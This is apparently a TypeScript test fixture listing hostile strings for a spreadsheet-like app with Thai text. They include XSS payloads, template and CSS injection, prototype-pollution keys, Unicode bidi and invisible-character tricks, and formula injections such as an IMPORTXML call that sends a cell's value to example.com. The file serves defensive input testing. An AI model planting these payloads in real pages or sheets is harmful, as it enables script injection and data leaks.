// Texts that a cell may hold and that something on their way could take for more than text: a page, a formula, a number, a
// template, a key of an object. Whatever runs because of one of them calls alert.

/** Taken for elements, attributes, addresses or scripts. */
const PAGE = [
  '<script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '</textarea></title></style><script>alert(1)</script>',
  '<img src=x onerror="alert(1)">',
  '<svg/onload=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<a href="javascript:alert(1)">กดที่นี่</a>',
  '<style>*{display:none}</style><link rel=stylesheet href=//example.com>',
  '<form action=//example.com><input autofocus onfocus=alert(1)>',
  '"><b onmouseover=alert(1)>',
  "' onfocus='alert(1)' autofocus='",
  'javascript:alert(1)',
  'http://example.com/?a=1//b',
  '<!-- ก',
  '<![CDATA[ ก ]]>',
  '&lt;b&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62; &amp;amp; &nbsp;',
  '<?= alert(1) ?>',
  '{{x}} {{constructor.constructor("alert(1)")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the text is what is meant
  '${alert(1)} `${alert(1)}`',
  '\\u003cscript\\u003ealert(1)',
  '%3Cscript%3Ealert(1)%3C/script%3E',
];

/** Taken for a formula, or for what a sheet makes of typed text. */
const CELL = [
  '=HYPERLINK("http://example.com/","กดที่นี่")',
  '=IMPORTXML("http://example.com/?"&A1,"//a")',
  '=1+1',
  '=',
  '+1',
  '-1',
  '-',
  '+HYPERLINK("http://example.com/")',
  '@SUM(A1:A9)',
  '\t=1+1',
  "'x",
  "''x",
  "'=1+1",
  '1-2',
  '1/10/2565',
  '00123',
  '1,000,000',
  '50%',
  '1e5',
  'TRUE',
  'FALSE',
  '#N/A',
  '#REF!',
];

/** Letters that are not seen, turn others around, or are no letters. */
const LETTERS = [
  '\u202eกลับ\u202c',
  '\u2066ซ่อน\u2069\u200f\u200e\u061cก',
  'ก\u200bข\u200d\u2060ค',
  '\ufeffก\u00adข',
  'ก\u2028ข\u2029ค',
  'ก\0ข',
  'ก\u0007\u001b[31mข\u007f\u0085',
  'ก\ud83dข',
  '\udc00ก',
  '👩‍👩‍👧 ดี 🇹🇭',
  `ก${'\u0e48'.repeat(300)}`,
  'บรรทัดแรก\nบรรทัดสอง',
  '"คำพูด" \'คำ\' “คำ” \\ / `',
];

/** Keys that every object has already. */
const KEYS = [
  '__proto__',
  'constructor',
  'prototype',
  'hasOwnProperty',
  'toString',
  '{"__proto__":{"polluted":1}}',
  'null',
  'undefined',
  'NaN',
  'Infinity',
];

const LONG = ['ม'.repeat(10_000), '=ม'.repeat(5_000), 'W'.repeat(10_000), '<b>'.repeat(3_000)];

export const HOSTILE: readonly string[] = [...PAGE, ...CELL, ...LETTERS, ...KEYS, ...LONG];

/** Those that may be the name of a tab or of an agency: one line of at most so many characters. */
export const hostileNames = (longest: number): string[] =>
  HOSTILE.filter(text => text.length <= longest && !/[\n\u2028\u2029]/.test(text));

/** In groups of at most so many: a table has no more rows of a kind. */
export function hostileGroups(most: number): string[][] {
  const count = Math.ceil(HOSTILE.length / most);
  return Array.from({ length: count }, (_, group) => HOSTILE.filter((_, index) => index % count === group));
}
